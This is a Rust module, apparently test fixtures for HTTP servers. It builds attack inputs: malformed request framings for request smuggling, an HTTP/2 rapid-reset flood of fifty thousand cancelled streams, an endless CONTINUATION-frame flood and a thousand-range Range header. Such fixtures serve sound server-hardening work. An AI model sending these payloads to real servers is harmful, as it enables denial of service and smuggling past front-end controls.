// SPDX-License-Identifier: Apache-2.0
//! What attackers send, whoever the server is: requests that two readers would frame differently, floods of frames,
//! requests for many ranges.

/// The rest of a request's head, and a body, by what is wrong with its framing.
pub const FRAMINGS: [(&str, &str); 17] = [
    ("length and chunks", "content-length: 6\r\ntransfer-encoding: chunked\r\n\r\n0\r\n\r\n"),
    ("chunks and length", "transfer-encoding: chunked\r\ncontent-length: 6\r\n\r\n0\r\n\r\n"),
    ("two lengths", "content-length: 0\r\ncontent-length: 6\r\n\r\n"),
    ("a list of lengths", "content-length: 0, 6\r\n\r\n"),
    ("a length with a sign", "content-length: +6\r\n\r\n"),
    ("a negative length", "content-length: -1\r\n\r\n"),
    ("almost chunked", "transfer-encoding: xchunked\r\n\r\n0\r\n\r\n"),
    ("chunked, then not", "transfer-encoding: chunked, identity\r\n\r\n0\r\n\r\n"),
    ("a folded field", "x: a\r\n transfer-encoding: chunked\r\n\r\n"),
    ("a space before the colon", "content-length : 6\r\n\r\n"),
    ("a bare CR", "x: a\rtransfer-encoding: chunked\r\n\r\n"),
    ("a NUL", "x: a\0b\r\n\r\n"),
    ("a chunk beyond 64 bits", "transfer-encoding: chunked\r\n\r\nfffffffffffffffff\r\nabc\r\n0\r\n\r\n"),
    ("a negative chunk", "transfer-encoding: chunked\r\n\r\n-1\r\nabc\r\n0\r\n\r\n"),
    ("a chunk that ends in LF", "transfer-encoding: chunked\r\n\r\n0\n\n"),
    ("an LF in a chunk's extension", "transfer-encoding: chunked\r\n\r\n0;a\nb\r\n\r\n"),
    ("two hosts", "host: y\r\ncontent-length: 0\r\n\r\n"),
];

/// A frame of HTTP/2 (RFC 9113, 4.1).
pub fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).expect("a small frame").to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// Frame type.
pub const HEADERS: u8 = 1;
/// Frame type.
pub const RST_STREAM: u8 = 3;
/// Frame type.
pub const SETTINGS: u8 = 4;
/// Frame type.
pub const PING: u8 = 6;
/// Frame type.
pub const CONTINUATION: u8 = 9;

/// What a client begins with, with these settings.
pub fn preface(settings: &[u8]) -> Vec<u8> {
    [b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".as_slice(), &frame(SETTINGS, 0, 0, settings)].concat()
}

/// A whole request for `path` (RFC 7541: static names, literal values).
pub fn h2_get(stream: u32, path: &str) -> Vec<u8> {
    let text = |value: &str| [&[u8::try_from(value.len()).expect("a short value")], value.as_bytes()].concat();
    let block = [&[0x82, 0x86][..], &[0x01], &text("x"), &[0x04], &text(path)].concat();
    frame(HEADERS, 0x5, stream, &block)
}

/// Fifty thousand requests for `path`, each cancelled as soon as it is made.
pub fn rapid_reset(path: &str) -> Vec<u8> {
    let resets = (0..50_000_u32).flat_map(|n| {
        let stream = n * 2 + 1;
        [h2_get(stream, path), frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes())].concat()
    });
    resets.collect()
}

/// A head that never ends.
pub fn continuation_flood() -> Vec<u8> {
    [frame(HEADERS, 0x1, 1, &[0x82, 0x86]), frame(CONTINUATION, 0, 1, &[0; 16_000]).repeat(2_000)].concat()
}

/// A Range field that asks for all of it a thousand times.
pub fn range_bomb() -> String {
    format!("bytes={}", vec!["0-"; 1_000].join(","))
}
